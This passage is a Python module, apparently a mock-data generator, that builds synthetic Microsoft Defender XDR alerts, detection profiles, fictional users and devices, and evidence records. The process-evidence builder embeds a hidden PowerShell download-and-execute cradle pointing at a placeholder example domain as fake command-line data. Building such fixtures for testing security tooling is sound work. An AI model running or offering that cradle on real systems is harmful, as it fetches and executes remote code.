"""What a Defender XDR tenant is made of: enum members, detection profiles, entities, evidence.

Enum lists follow the Graph v1.0 CSDL (reference §1.3, §1.2, §2.2). Members above the
`unknownFutureValue` sentinel are "gated": Graph returns them only with
`Prefer: include-unknown-enum-members`.
"""

from __future__ import annotations

import random
import uuid
from typing import Any, Dict, List, NamedTuple, Optional, Tuple

UFV = "unknownFutureValue"

SERVICE_SOURCES_KNOWN = (
    "unknown",
    "microsoftDefenderForEndpoint",
    "microsoftDefenderForIdentity",
    "microsoftDefenderForCloudApps",
    "microsoftDefenderForOffice365",
    "microsoft365Defender",
    "azureAdIdentityProtection",
    "microsoftAppGovernance",
    "dataLossPrevention",
)
SERVICE_SOURCES_GATED = frozenset(
    {
        "microsoftDefenderForCloud",
        "microsoftSentinel",
        "microsoftInsiderRiskManagement",
        "microsoftThreatIntelligence",
        "microsoftSecurityForAI",
    }
)
DETECTION_SOURCES_KNOWN = (
    "unknown",
    "microsoftDefenderForEndpoint",
    "antivirus",
    "smartScreen",
    "customTi",
    "microsoftDefenderForOffice365",
    "automatedInvestigation",
    "microsoftThreatExperts",
    "customDetection",
    "microsoftDefenderForIdentity",
    "cloudAppSecurity",
    "microsoft365Defender",
    "azureAdIdentityProtection",
    "manual",
    "microsoftDataLossPrevention",
    "appGovernancePolicy",
    "appGovernanceDetection",
)
DETECTION_SOURCES_GATED = frozenset(
    {
        "microsoftDefenderForCloud",
        "microsoftDefenderForIoT",
        "microsoftDefenderForServers",
        "microsoftDefenderForStorage",
        "microsoftDefenderForDNS",
        "microsoftDefenderForDatabases",
        "microsoftDefenderForContainers",
        "microsoftDefenderForNetwork",
        "microsoftDefenderForAppService",
        "microsoftDefenderForKeyVault",
        "microsoftDefenderForResourceManager",
        "microsoftDefenderForApiManagement",
        "nrtAlerts",
        "scheduledAlerts",
        "microsoftDefenderThreatIntelligenceAnalytics",
        "builtInMl",
        "microsoftInsiderRiskManagement",
        "microsoftThreatIntelligence",
        "microsoftDefenderForAIServices",
        "securityCopilot",
        "microsoftSentinel",
    }
)
INCIDENT_STATUS_GATED = frozenset({"awaitingAction"})
REMEDIATION_STATUS_GATED = frozenset(
    {"active", "pendingApproval", "declined", "unremediated", "running", "partiallyRemediated"}
)


def mask_alert(alert: Dict[str, Any]) -> bool:
    """Replace gated members by the sentinel in place (top level and evidence); True if changed."""
    changed = False
    if alert.get("serviceSource") in SERVICE_SOURCES_GATED:
        alert["serviceSource"] = UFV
        changed = True
    if alert.get("detectionSource") in DETECTION_SOURCES_GATED:
        alert["detectionSource"] = UFV
        changed = True
    for ev in alert.get("evidence") or ():
        if mask_evidence(ev):
            changed = True
    return changed


def mask_evidence(ev: Dict[str, Any]) -> bool:
    if ev.get("remediationStatus") in REMEDIATION_STATUS_GATED:
        ev["remediationStatus"] = UFV
        return True
    return False


def alert_is_gated(alert: Dict[str, Any]) -> bool:
    if alert.get("serviceSource") in SERVICE_SOURCES_GATED:
        return True
    if alert.get("detectionSource") in DETECTION_SOURCES_GATED:
        return True
    return any(ev.get("remediationStatus") in REMEDIATION_STATUS_GATED for ev in alert.get("evidence") or ())


# ---------------------------------------------------------------------------------------------
# Detection profiles: (serviceSource, detectionSource) pairs with product names and alert kinds.


class AlertKind(NamedTuple):
    title: str
    category: str
    mitre: Tuple[str, ...]
    severity: str
    threat: Optional[str]
    family: Optional[str]
    description: str


class Profile(NamedTuple):
    service: str
    detection: str
    product: str
    id_style: str  # how ids look: see make_alert_ids
    evidence: str  # which evidence builder
    kinds: Tuple[AlertKind, ...]


def _k(
    title: str,
    category: str,
    mitre: Tuple[str, ...],
    severity: str,
    description: str,
    threat: Optional[str] = None,
    family: Optional[str] = None,
) -> AlertKind:
    return AlertKind(title, category, mitre, severity, threat, family, description)


MDE = "Microsoft Defender for Endpoint"
MDC = "Microsoft Defender for Cloud"
SENT = "Microsoft Sentinel"
XDR = "Microsoft Defender XDR"

PROFILES: Dict[str, Profile] = {
    "antivirus": Profile(
        "microsoftDefenderForEndpoint",
        "antivirus",
        MDE,
        "mde",
        "malware",
        (
            _k(
                "'Wacatac' malware was detected",
                "Malware",
                ("T1204.002",),
                "medium",
                "Malware and unwanted software are undesirable applications that perform annoying, "
                "disruptive, or harmful actions on affected machines.",
                "Trojan:Win32/Wacatac.B!ml",
                "Wacatac",
            ),
            _k(
                "'Emotet' malware was prevented",
                "Malware",
                ("T1204.002", "T1566.001"),
                "low",
                "Emotet was blocked by Microsoft Defender Antivirus before it could run.",
                "Trojan:Win32/Emotet.RPX!MTB",
                "Emotet",
            ),
        ),
    ),
    "edr": Profile(
        "microsoftDefenderForEndpoint",
        "microsoftDefenderForEndpoint",
        MDE,
        "mde",
        "process",
        (
            _k(
                "Suspicious PowerShell download cradle",
                "Execution",
                ("T1059.001", "T1105", "T1027"),
                "high",
                "A PowerShell process downloaded and executed content from a remote host.",
                "TrojanDownloader:PowerShell/Cradle.B",
                "Cradle",
            ),
            _k(
                "Suspicious access to LSASS service",
                "CredentialAccess",
                ("T1003.001",),
                "high",
                "A process accessed the memory of the Local Security Authority Subsystem Service.",
            ),
            _k(
                "Suspicious scheduled task",
                "Persistence",
                ("T1053.005",),
                "medium",
                "A scheduled task that runs an uncommon binary from a user-writable folder was created.",
            ),
        ),
    ),
    "smartscreen": Profile(
        "microsoftDefenderForEndpoint",
        "smartScreen",
        MDE,
        "mde",
        "web",
        (
            _k(
                "Microsoft Defender SmartScreen blocked a malicious URL",
                "InitialAccess",
                ("T1189",),
                "low",
                "SmartScreen warned the user about a site reported for phishing or malware.",
            ),
        ),
    ),
    "customti": Profile(
        "microsoftDefenderForEndpoint",
        "customTi",
        MDE,
        "mde",
        "web",
        (
            _k(
                "Connection to a custom network indicator",
                "CommandAndControl",
                ("T1071.001",),
                "medium",
                "A device connected to an IP address or URL listed in your custom indicators.",
            ),
        ),
    ),
    "air": Profile(
        "microsoftDefenderForEndpoint",
        "automatedInvestigation",
        MDE,
        "mde",
        "malware",
        (
            _k(
                "Malicious file found during automated investigation",
                "Malware",
                ("T1204.002",),
                "medium",
                "Automated investigation found a malicious file on the device and remediated it.",
                "Trojan:Win32/AgentTesla!ml",
                "AgentTesla",
            ),
        ),
    ),
    "experts": Profile(
        "microsoftDefenderForEndpoint",
        "microsoftThreatExperts",
        MDE,
        "mde",
        "process",
        (
            _k(
                "Defender Experts: hands-on-keyboard activity observed",
                "SuspiciousActivity",
                ("T1059.003", "T1082"),
                "high",
                "Microsoft Defender Experts identified human-operated discovery activity.",
            ),
        ),
    ),
    "mdi": Profile(
        "microsoftDefenderForIdentity",
        "microsoftDefenderForIdentity",
        "Microsoft Defender for Identity",
        "guid:aa",
        "identity",
        (
            _k(
                "Suspected DCSync attack (replication of directory services)",
                "CredentialAccess",
                ("T1003.006",),
                "high",
                "A replication request was sent from a device that is not a domain controller.",
            ),
            _k(
                "Suspected Kerberos SPN exposure",
                "CredentialAccess",
                ("T1558.003",),
                "high",
                "An actor enumerated service principal names and requested Kerberos service tickets.",
            ),
            _k(
                "Suspected brute-force attack (Kerberos, NTLM)",
                "CredentialAccess",
                ("T1110.003",),
                "medium",
                "Many authentication failures were observed for several accounts from one device.",
            ),
        ),
    ),
    "mdo": Profile(
        "microsoftDefenderForOffice365",
        "microsoftDefenderForOffice365",
        "Microsoft Defender for Office 365",
        "guid:fa",
        "mail",
        (
            _k(
                "Email messages containing malicious file removed after delivery",
                "InitialAccess",
                ("T1566.001",),
                "medium",
                "Emails containing a malicious attachment were delivered and later removed by zero-hour auto purge.",
            ),
            _k(
                "A potentially malicious URL click was detected",
                "InitialAccess",
                ("T1566.002",),
                "high",
                "A user clicked a URL that was later found to be malicious.",
            ),
        ),
    ),
    "mdca": Profile(
        "microsoftDefenderForCloudApps",
        "cloudAppSecurity",
        "Microsoft Defender for Cloud Apps",
        "hex:ca",
        "cloudapp",
        (
            _k(
                "Impossible travel activity",
                "InitialAccess",
                ("T1078",),
                "medium",
                "The same user signed in from two distant locations within a time shorter than the "
                "travel time between them.",
            ),
            _k(
                "Mass download by a single user",
                "Exfiltration",
                ("T1530",),
                "medium",
                "A user downloaded an unusually large number of files in a single session.",
            ),
        ),
    ),
    "appg_policy": Profile(
        "microsoftAppGovernance",
        "appGovernancePolicy",
        "App Governance",
        "hex:ga",
        "oauth",
        (
            _k(
                "App with high-privilege Graph permissions accessed mail at unusual volume",
                "Collection",
                ("T1114.002",),
                "medium",
                "An app governance policy matched an OAuth app reading large amounts of mail.",
            ),
        ),
    ),
    "appg_detection": Profile(
        "microsoftAppGovernance",
        "appGovernanceDetection",
        "App Governance",
        "hex:ga",
        "oauth",
        (
            _k(
                "Suspicious OAuth app used to send phishing emails",
                "InitialAccess",
                ("T1566", "T1550.001"),
                "high",
                "An OAuth app with a low reputation sent a large volume of mail that looks like phishing.",
            ),
        ),
    ),
    "aadip": Profile(
        "azureAdIdentityProtection",
        "azureAdIdentityProtection",
        "Microsoft Entra ID Protection",
        "hex:ad",
        "signin",
        (
            _k(
                "Unfamiliar sign-in properties",
                "InitialAccess",
                ("T1078.004",),
                "medium",
                "The sign-in had properties that are unusual for this user.",
            ),
            _k(
                "Anonymous IP address",
                "InitialAccess",
                ("T1090.003",),
                "low",
                "Sign-in from an anonymous IP address, for example a Tor browser or an anonymizer VPN.",
            ),
            _k(
                "Attacker in the Middle",
                "CredentialAccess",
                ("T1557",),
                "high",
                "An authentication session was possibly stolen by an adversary-in-the-middle proxy.",
            ),
        ),
    ),
    "dlp": Profile(
        "dataLossPrevention",
        "microsoftDataLossPrevention",
        "Microsoft Data Loss Prevention",
        "guid:dl",
        "dlp",
        (
            _k(
                "DLP policy (Credit card numbers) matched for document in SharePoint",
                "Exfiltration",
                (),
                "low",
                "A document containing credit card numbers was shared externally.",
            ),
        ),
    ),
    "xdr": Profile(
        "microsoft365Defender",
        "microsoft365Defender",
        XDR,
        "digits:ra",
        "xdr",
        (
            _k(
                "Suspicious URL clicked",
                "InitialAccess",
                ("T1566.002",),
                "high",
                "A user opened a URL from an email that was later marked malicious; the device then "
                "connected to the same domain.",
            ),
            _k(
                "Possible BEC financial fraud",
                "Collection",
                ("T1114.003", "T1534"),
                "high",
                "Inbox rules and mail activity consistent with business email compromise were observed.",
            ),
        ),
    ),
    "custom": Profile(
        "microsoft365Defender",
        "customDetection",
        XDR,
        "digits:ed",
        "xdr",
        (
            _k(
                "Custom detection: rare encoded PowerShell",
                "Execution",
                ("T1059.001", "T1027"),
                "medium",
                "A custom detection rule matched encoded PowerShell run by a user account.",
            ),
        ),
    ),
    "manual": Profile(
        "microsoft365Defender",
        "manual",
        XDR,
        "guid:ma",
        "xdr",
        (
            _k(
                "Manually created alert: suspicious vendor invoice",
                "SuspiciousActivity",
                (),
                "low",
                "An analyst created this alert while triaging a user report.",
            ),
        ),
    ),
    "copilot": Profile(
        "microsoft365Defender",
        "securityCopilot",
        XDR,
        "guid:sc",
        "mail",
        (
            _k(
                "Phishing triage agent classified a user-reported message as phishing",
                "InitialAccess",
                ("T1566.002",),
                "medium",
                "The Security Copilot phishing triage agent reviewed a user submission and found it malicious.",
            ),
        ),
    ),
    # --- Prefer-gated service sources ---------------------------------------------------------
    "mdc_servers": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForServers",
        MDC,
        "mdc",
        "azure_vm",
        (
            _k(
                "Suspicious process executed [seen multiple times]",
                "CredentialAccess",
                ("T1003",),
                "high",
                "Machine logs indicate that the suspicious process was running on the machine.",
            ),
        ),
    ),
    "mdc_storage": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForStorage",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Access from a suspicious IP address to a storage blob container",
                "InitialAccess",
                ("T1078",),
                "medium",
                "A blob container was accessed from an IP address flagged by Microsoft Threat Intelligence.",
            ),
        ),
    ),
    "mdc_dns": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForDNS",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Communication with suspicious domain identified by threat intelligence",
                "CommandAndControl",
                ("T1071.004",),
                "medium",
                "DNS queries from a resource resolved a domain associated with malicious activity.",
            ),
        ),
    ),
    "mdc_db": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForDatabases",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Potential SQL injection",
                "PreAttack",
                ("T1190",),
                "high",
                "An application generated a faulty SQL statement, a sign of a possible SQL injection.",
            ),
        ),
    ),
    "mdc_containers": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForContainers",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Privileged container detected",
                "PrivilegeEscalation",
                ("T1611",),
                "low",
                "A container running in privileged mode was detected in the Kubernetes cluster.",
            ),
        ),
    ),
    "mdc_network": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForNetwork",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Traffic detected from IP addresses recommended for blocking",
                "PreAttack",
                ("T1595",),
                "low",
                "Inbound traffic from IP addresses recommended for blocking was observed.",
            ),
        ),
    ),
    "mdc_appservice": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForAppService",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Web shell activity detected on App Service",
                "Persistence",
                ("T1505.003",),
                "high",
                "A process typical of a web shell was started by the App Service worker.",
            ),
        ),
    ),
    "mdc_keyvault": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForKeyVault",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Unusual access to the key vault from a suspicious IP",
                "CredentialAccess",
                ("T1555",),
                "medium",
                "A key vault was accessed from an IP address identified as suspicious.",
            ),
        ),
    ),
    "mdc_arm": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForResourceManager",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Suspicious invocation of a high-risk 'Execution' operation detected",
                "Execution",
                ("T1651",),
                "medium",
                "A user invoked the Run Command operation on a VM in a way that is unusual for the user.",
            ),
        ),
    ),
    "mdc_apim": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForApiManagement",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Unusual volume of requests to a sensitive API operation",
                "Collection",
                ("T1119",),
                "low",
                "An API operation returning sensitive data received an unusual request volume.",
            ),
        ),
    ),
    "mdc_iot": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForIoT",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Unauthorized PLC programming",
                "Impact",
                ("T0843",),
                "high",
                "A programming change was made to a PLC by a device not authorised to program it.",
            ),
        ),
    ),
    "mdc_generic": Profile(
        "microsoftDefenderForCloud",
        "microsoftDefenderForCloud",
        MDC,
        "mdc",
        "azure",
        (
            _k(
                "Suspicious Azure role assignment detected",
                "PrivilegeEscalation",
                ("T1098",),
                "medium",
                "A role assignment with a high-privilege role was made from an unusual location.",
            ),
        ),
    ),
    "mdc_ai": Profile(
        "microsoftSecurityForAI",
        "microsoftDefenderForAIServices",
        "Microsoft Security for AI",
        "guid:ai",
        "ai",
        (
            _k(
                "A jailbreak attempt on an Azure AI model deployment was blocked by Prompt Shields",
                "PrivilegeEscalation",
                ("T1548",),
                "medium",
                "A prompt designed to bypass the system prompt and safety filters was blocked.",
            ),
        ),
    ),
    "sentinel_scheduled": Profile(
        "microsoftSentinel",
        "scheduledAlerts",
        SENT,
        "guid:sn",
        "sentinel",
        (
            _k(
                "Multiple failed sign-ins followed by a success from the same IP",
                "CredentialAccess",
                ("T1110",),
                "medium",
                "Scheduled analytics rule matched a password-spray pattern.",
            ),
        ),
    ),
    "sentinel_nrt": Profile(
        "microsoftSentinel",
        "nrtAlerts",
        SENT,
        "guid:sn",
        "sentinel",
        (
            _k(
                "NRT: user added to a privileged Entra ID role",
                "Persistence",
                ("T1098.003",),
                "high",
                "Near-real-time rule matched an addition to a privileged directory role.",
            ),
        ),
    ),
    "sentinel_ml": Profile(
        "microsoftSentinel",
        "builtInMl",
        SENT,
        "guid:sn",
        "sentinel",
        (
            _k(
                "Anomalous sign-in activity (UEBA)",
                "InitialAccess",
                ("T1078",),
                "informational",
                "Built-in machine learning found a sign-in pattern unusual for this user and peers.",
            ),
        ),
    ),
    "sentinel_ti": Profile(
        "microsoftSentinel",
        "microsoftDefenderThreatIntelligenceAnalytics",
        SENT,
        "guid:sn",
        "sentinel",
        (
            _k(
                "TI map IP entity to SigninLogs",
                "CommandAndControl",
                ("T1071",),
                "medium",
                "Threat intelligence analytics matched an indicator in sign-in logs.",
            ),
        ),
    ),
    "sentinel_generic": Profile(
        "microsoftSentinel",
        "microsoftSentinel",
        SENT,
        "guid:sn",
        "sentinel",
        (
            _k(
                "Rare subscription-level operation",
                "Impact",
                ("T1496",),
                "low",
                "An operation rarely seen in this subscription was performed.",
            ),
        ),
    ),
    "irm": Profile(
        "microsoftInsiderRiskManagement",
        "microsoftInsiderRiskManagement",
        "Microsoft Purview Insider Risk Management",
        "guid:ir",
        "dlp",
        (
            _k(
                "Data leaks by a departing user",
                "Exfiltration",
                ("T1567",),
                "medium",
                "A user with a resignation date downloaded and copied sensitive files to USB.",
            ),
        ),
    ),
    "mti": Profile(
        "microsoftThreatIntelligence",
        "microsoftThreatIntelligence",
        "Microsoft Defender Threat Intelligence",
        "guid:ti",
        "web",
        (
            _k(
                "Activity from a known threat actor infrastructure",
                "CommandAndControl",
                ("T1071.001",),
                "high",
                "A device communicated with infrastructure attributed to a tracked threat actor.",
            ),
        ),
    ),
}

# ---------------------------------------------------------------------------------------------
# Entities

DOMAIN = "contoso.com"
NETBIOS = "CONTOSO"
FIRST = ("Jane", "Omar", "Li", "Priya", "Lukas", "Amara", "Diego", "Sofia", "Kenji", "Fatima", "Noah", "Elena")
LAST = ("Doe", "Haddad", "Wei", "Nair", "Becker", "Okafor", "Ramos", "Rossi", "Sato", "Khan", "Berg", "Popescu")
DEPTS = (
    ("fin", "Finance"),
    ("hr", "HR"),
    ("dev", "Engineering"),
    ("ops", "Operations"),
    ("sales", "Sales"),
    ("legal", "Legal"),
)
GEO = (
    ("198.51.100.77", "NL", "Amsterdam", "Netherlands", "North Holland", 52.37, 4.89),
    ("203.0.113.24", "US", "Seattle", "United States", "Washington", 47.61, -122.33),
    ("192.0.2.45", "RU", "Moscow", "Russia", "Moscow", 55.75, 37.62),
    ("198.51.100.203", "BR", "Sao Paulo", "Brazil", "Sao Paulo", -23.55, -46.63),
    ("203.0.113.190", "NG", "Lagos", "Nigeria", "Lagos", 6.52, 3.38),
    ("192.0.2.131", "DE", "Frankfurt am Main", "Germany", "Hesse", 50.11, 8.68),
    ("198.51.100.9", "SG", "Singapore", "Singapore", "Singapore", 1.35, 103.82),
    ("203.0.113.61", "RO", "Bucharest", "Romania", "Bucharest", 44.43, 26.1),
)
BAD_DOMAINS = (
    "cdn-update.example.net",
    "login-micros0ft.example.org",
    "invoice-portal.example.com",
    "sharepoint-docs.example.net",
    "files-transfer.example.org",
)
MAL_FILES = (
    ("invoice_0914.exe", "C:\\Users\\{acct}\\Downloads"),
    ("a.ps1", "C:\\Users\\{acct}\\AppData\\Local\\Temp"),
    ("update.dll", "C:\\ProgramData\\Microsoft\\Crypto"),
    ("Remittance_advice.docm", "C:\\Users\\{acct}\\Documents"),
    ("svch0st.exe", "C:\\Users\\Public"),
)
CLOUD_APPS = (
    (20893, "Microsoft SharePoint Online"),
    (11161, "Microsoft Office 365"),
    (15600, "Microsoft OneDrive for Business"),
    (28375, "Microsoft Teams"),
    (11522, "Dropbox"),
)


def rand_uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def rand_hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


class User(NamedTuple):
    account: str
    display: str
    upn: str
    sid: str
    aad_id: str
    ad_guid: str


class Device(NamedTuple):
    host: str
    dns: str
    mde_id: str
    aad_id: str
    os: str
    build: int
    version: str
    rbac_id: int
    rbac_name: str
    ip: str
    ext_ip: str
    tags: Tuple[str, ...]
    first_seen_days: int


class Entities:
    """A deterministic pool of users, devices and Azure resources for one tenant."""

    def __init__(self, rng: random.Random, tenant_id: str, n_users: int = 12) -> None:
        self.tenant_id = tenant_id
        self.users: List[User] = []
        self.devices: List[Device] = []
        for i in range(n_users):
            first, last = FIRST[i % len(FIRST)], LAST[(i * 5) % len(LAST)]
            account = (first[0] + last).lower() if i < len(FIRST) else f"{first[0]}{last}{i}".lower()
            self.users.append(
                User(
                    account,
                    f"{first} {last}",
                    f"{account}@{DOMAIN}",
                    f"S-1-5-21-3623811015-3361044348-30300820-{1100 + rng.randrange(900)}",
                    rand_uuid(rng),
                    rand_uuid(rng),
                )
            )
            short, dept = DEPTS[i % len(DEPTS)]
            kind = rng.choice(("ws", "lt"))
            host = f"{short}-{kind}-{rng.randrange(1, 999):04d}"
            os_name, build, ver = rng.choice(
                (("Windows11", 26100, "24H2"), ("Windows11", 22631, "23H2"), ("Windows10", 19045, "22H2"))
            )
            self.devices.append(
                Device(
                    host,
                    f"{host}.corp.{DOMAIN}",
                    rand_hex(rng, 40),
                    rand_uuid(rng),
                    os_name,
                    build,
                    ver,
                    10 + i % len(DEPTS),
                    f"{dept}-Workstations",
                    f"10.{40 + i % len(DEPTS)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}",
                    GEO[1][0],
                    (dept, "Tier-2 workstation"),
                    rng.randrange(30, 700),
                )
            )
        # servers / domain controllers
        for host, dept in (("dc01", "Domain-Controllers"), ("dc02", "Domain-Controllers"), ("srv-sql-02", "Servers")):
            self.devices.append(
                Device(
                    host,
                    f"{host}.corp.{DOMAIN}",
                    rand_hex(rng, 40),
                    rand_uuid(rng),
                    "WindowsServer2022",
                    20348,
                    "21H2",
                    30,
                    dept,
                    f"10.10.0.{rng.randrange(2, 60)}",
                    GEO[1][0],
                    ("Tier-0",) if host.startswith("dc") else ("Tier-1",),
                    rng.randrange(300, 1500),
                )
            )
        self.subscription = rand_uuid(rng)
        self.resource_group = "rg-prod-westeurope"
        self.apps = [
            (rand_uuid(rng), rand_uuid(rng), name, publisher)
            for name, publisher in (
                ("MailSync Pro", "MailSync Ltd"),
                ("DocuFlow Connector", "Unverified"),
                ("Calendar Helper", "Unverified"),
            )
        ]


# ---------------------------------------------------------------------------------------------
# Evidence builders. Each returns a list of evidence dicts like the sample payloads.


def _ev(kind: str, created: str, verdict: str, rem: str, roles: List[str], **fields: Any) -> Dict[str, Any]:
    base: Dict[str, Any] = {
        "@odata.type": f"#microsoft.graph.security.{kind}",
        "createdDateTime": created,
        "verdict": verdict,
        "remediationStatus": rem,
        "remediationStatusDetails": fields.pop("remediationStatusDetails", None),
        "roles": roles,
        "detailedRoles": fields.pop("detailedRoles", []),
        "tags": fields.pop("tags", []),
    }
    base.update(fields)
    return base


def user_account(u: User, tenant_id: str, full: bool = True) -> Dict[str, Any]:
    acct: Dict[str, Any] = {
        "accountName": u.account,
        "domainName": NETBIOS,
        "userSid": u.sid,
        "azureAdUserId": u.aad_id,
        "userPrincipalName": u.upn,
        "displayName": u.display,
    }
    if full:
        acct["activeDirectoryObjectGuid"] = u.ad_guid
        acct["tenantId"] = tenant_id
        acct["resourceAccessEvents"] = []
    return acct


def device_evidence(d: Device, u: Optional[User], created: str, first_seen: str, role: str) -> Dict[str, Any]:
    return _ev(
        "deviceEvidence",
        created,
        "suspicious",
        "none",
        [role],
        detailedRoles=["Main device"] if role == "compromised" else [],
        tags=list(d.tags),
        firstSeenDateTime=first_seen,
        mdeDeviceId=d.mde_id,
        azureAdDeviceId=d.aad_id,
        deviceDnsName=d.dns,
        hostName=d.host,
        ntDomain=NETBIOS,
        dnsDomain=f"corp.{DOMAIN}",
        osPlatform=d.os,
        osBuild=d.build,
        version=d.version,
        healthStatus="active",
        riskScore="high" if role == "compromised" else "medium",
        rbacGroupId=d.rbac_id,
        rbacGroupName=d.rbac_name,
        onboardingStatus="onboarded",
        defenderAvStatus="updated",
        ipInterfaces=[d.ip],
        lastIpAddress=d.ip,
        lastExternalIpAddress=d.ext_ip,
        loggedOnUsers=[{"accountName": u.account, "domainName": NETBIOS}] if u else [],
        vmMetadata=None,
        resourceAccessEvents=[],
    )


def user_evidence(u: User, tenant_id: str, created: str, role: str = "compromised") -> Dict[str, Any]:
    return _ev(
        "userEvidence",
        created,
        "suspicious",
        "none",
        [role],
        stream=None,
        userAccount=user_account(u, tenant_id),
    )


def ip_evidence(geo: Tuple[Any, ...], created: str, roles: List[str], rem: str = "none") -> Dict[str, Any]:
    ip, cc, city, country, state, lat, lon = geo
    return _ev(
        "ipEvidence",
        created,
        "suspicious",
        rem,
        roles,
        ipAddress=ip,
        countryLetterCode=cc,
        stream=None,
        location={"city": city, "countryName": country, "state": state, "latitude": lat, "longitude": lon},
    )


def file_details(rng: random.Random, name: str, path: str, signed: bool = False) -> Dict[str, Any]:
    return {
        "fileName": name,
        "filePath": path,
        "fileSize": rng.randrange(4096, 4_000_000),
        "filePublisher": "Microsoft Corporation" if signed else None,
        "sha1": rand_hex(rng, 40),
        "sha256": rand_hex(rng, 64),
        "md5": rand_hex(rng, 32),
        "sha256Ac": None,
        "signer": "Microsoft Windows" if signed else None,
        "issuer": "Microsoft Windows Production PCA 2011" if signed else None,
    }


POWERSHELL = {
    "fileName": "powershell.exe",
    "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "fileSize": 455680,
    "filePublisher": "Microsoft Corporation",
    "sha1": "6cbce4a295c163791b60fc23d285e6d84f28ee4c",
    "sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
    "md5": None,
    "sha256Ac": None,
    "signer": "Microsoft Windows",
    "issuer": "Microsoft Windows Production PCA 2011",
}
WINWORD = {
    "fileName": "WINWORD.EXE",
    "filePath": "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "fileSize": 1623408,
    "filePublisher": "Microsoft Corporation",
    "sha1": None,
    "sha256": None,
    "md5": None,
    "sha256Ac": None,
    "signer": None,
    "issuer": None,
}


class EvidenceContext(NamedTuple):
    rng: random.Random
    ents: Entities
    user: User
    device: Device
    geo: Tuple[Any, ...]
    domain: str
    created: str  # evidence createdDateTime
    activity: str  # process creation time text
    first_seen: str  # device first seen text
    remediation: str  # remediation status for the "main" malicious entity


def build_evidence(kind: str, c: EvidenceContext) -> List[Dict[str, Any]]:
    rng, u, d, tid = c.rng, c.user, c.device, c.ents.tenant_id
    url = f"http://{c.domain}/{rand_hex(rng, 6)}"
    if kind in ("malware", "process"):
        fname, fpath = rng.choice(MAL_FILES)
        fpath = fpath.format(acct=u.account)
        evs = [device_evidence(d, u, c.created, c.first_seen, "compromised"), user_evidence(u, tid, c.created)]
        if kind == "process":
            cmd = (
                f'powershell.exe -NoP -W Hidden -Exec Bypass -c "IEX (New-Object Net.WebClient)'
                f".DownloadString('hxxp://{c.domain}/a.ps1')\""
            )
            evs.append(
                _ev(
                    "processEvidence",
                    c.created,
                    "malicious",
                    c.remediation,
                    ["attacker"],
                    remediationStatusDetails=None,
                    detailedRoles=["Process performing the download"],
                    processId=rng.randrange(1000, 20000),
                    parentProcessId=rng.randrange(1000, 20000),
                    processCommandLine=cmd,
                    processCreationDateTime=c.activity,
                    parentProcessCreationDateTime=c.activity,
                    detectionStatus="detected",
                    mdeDeviceId=d.mde_id,
                    imageFile=dict(POWERSHELL),
                    parentProcessImageFile=dict(WINWORD),
                    userAccount=user_account(u, tid, full=False),
                )
            )
            evs.append(_ev("urlEvidence", c.created, "malicious", "blocked", ["commandAndControl"], url=url))
        evs.append(
            _ev(
                "fileEvidence",
                c.created,
                "malicious",
                c.remediation,
                ["created"] if kind == "process" else ["scanned"],
                remediationStatusDetails="Quarantined" if c.remediation == "remediated" else None,
                detailedRoles=["Downloaded payload"] if kind == "process" else ["Detected file"],
                detectionStatus="blocked" if kind == "process" else "detected",
                mdeDeviceId=d.mde_id,
                fileDetails=file_details(rng, fname, fpath),
            )
        )
        return evs
    if kind == "web":
        return [
            device_evidence(d, u, c.created, c.first_seen, "compromised"),
            user_evidence(u, tid, c.created),
            _ev("urlEvidence", c.created, "malicious", c.remediation, ["commandAndControl"], url=url),
            ip_evidence(c.geo, c.created, ["destination", "commandAndControl"]),
        ]
    if kind == "identity":
        dc = c.ents.devices[-3]
        return [
            user_evidence(u, tid, c.created, "attacker"),
            device_evidence(d, u, c.created, c.first_seen, "attacker"),
            device_evidence(dc, None, c.created, c.first_seen, "attacked"),
            ip_evidence((d.ip, None, None, None, None, None, None), c.created, ["source"]),  # internal address: no geo
        ]
    if kind == "signin":
        return [user_evidence(u, tid, c.created), ip_evidence(c.geo, c.created, ["source"], rem=c.remediation)]
    if kind == "mail":
        nmid = rand_uuid(rng)
        sender_dom = c.domain
        sender = {"emailAddress": f"billing@{sender_dom}", "displayName": "Billing", "domainName": sender_dom}
        return [
            _ev(
                "analyzedMessageEvidence",
                c.created,
                "malicious",
                c.remediation,
                ["contextual"],
                remediationStatusDetails="Zero-hour auto purge" if c.remediation == "remediated" else None,
                networkMessageId=nmid,
                internetMessageId=f"<{rand_hex(rng, 12).upper()}@{sender_dom}>",
                subject=rng.choice(("Remittance advice", "Invoice overdue", "Shared document", "Password expiry")),
                language="en",
                antiSpamDirection="Inbound",
                deliveryAction="Delivered",
                deliveryLocation="Inbox",
                receivedDateTime=c.activity,
                recipientEmailAddress=u.upn,
                senderIp=c.geo[0],
                p1Sender=dict(sender),
                p2Sender=dict(sender),
                attachmentsCount=1,
                urlCount=1,
                urls=[url],
                threats=["Phish"],
                threatDetectionMethods=["URLDetonationReputation"],
                urn=f"urn:MailEntity:{rand_hex(rng, 32)}",
            ),
            _ev(
